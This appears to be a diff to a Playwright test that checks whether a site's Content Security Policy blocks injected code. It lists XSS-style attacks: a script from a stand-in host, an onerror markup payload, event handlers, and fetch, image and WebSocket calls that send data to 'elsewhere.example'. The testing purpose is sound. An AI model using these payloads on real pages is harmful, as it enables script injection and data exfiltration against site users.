@@ -1,7 +1,8 @@
 import type { Page, Route } from '@playwright/test'
 import { expect, test } from '../helpers/local-site-fixture.ts'
 
-/* What somebody would try who can write into a page. Each leaves `attacked` behind where it gets through. */
+/* What somebody would try who can write into a page. Each leaves `attacked` behind where it gets through. One way for
+   each directive: that none of them takes a keyword or a wildcard, build/policy.test.ts. */
 
 const elsewhere = 'https://elsewhere.example'
 
@@ -16,23 +17,11 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     script.setAttribute('src', `${elsewhere}/attack.js`)
     document.head.append(script)
   },
-  'a module of another site': (elsewhere) => import(`${elsewhere}/attack.js`),
-  'a script as data': () => {
-    const script = document.createElement('script')
-    script.setAttribute('src', 'data:text/javascript,globalThis.attacked = true')
-    document.head.append(script)
-  },
   'an event handler': () => document.body.setAttribute('onclick', 'globalThis.attacked = true'),
   // Later: what a driven browser evaluates itself may do so.
   'code from a string': () => setTimeout(() => Reflect.construct(Function, ['globalThis.attacked = true'])()),
-  'a timer with a string': () => setTimeout('globalThis.attacked = true' as unknown as () => void),
   'markup from a string': () => {
     document.body.innerHTML = '<img src=x onerror="globalThis.attacked = true">'
-  },
-  'a document in a frame': () => {
-    const frame = document.createElement('iframe')
-    frame.setAttribute('srcdoc', '<script>parent.attacked = true</script>')
-    document.body.append(frame)
   },
   'a frame of another site': (elsewhere) => {
     const frame = document.createElement('iframe')
@@ -45,18 +34,11 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     document.body.append(link)
     link.click()
   },
-  'a worker': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
-  'a plug-in': (elsewhere) => {
-    const object = document.createElement('object')
-    object.data = `${elsewhere}/attack`
-    document.body.append(object)
-  },
   'an inline style': () => {
     const style = document.createElement('style')
     style.append(':root { --attacked: yes }')
     document.head.append(style)
   },
-  'a style attribute': () => document.documentElement.setAttribute('style', '--attacked: yes'),
   'a style sheet of another site': (elsewhere) => {
     const link = document.createElement('link')
     link.rel = 'stylesheet'
@@ -67,7 +49,6 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     new Image().src = `${elsewhere}/?words`
   },
   'a request to another site': (elsewhere) => fetch(`${elsewhere}/?words`),
-  'a beacon': (elsewhere) => navigator.sendBeacon(`${elsewhere}/`, 'words'),
   'a socket': (elsewhere) => new WebSocket(elsewhere.replace('https', 'wss')),
   'another base for every link': (elsewhere) => {
     const base = document.createElement('base')
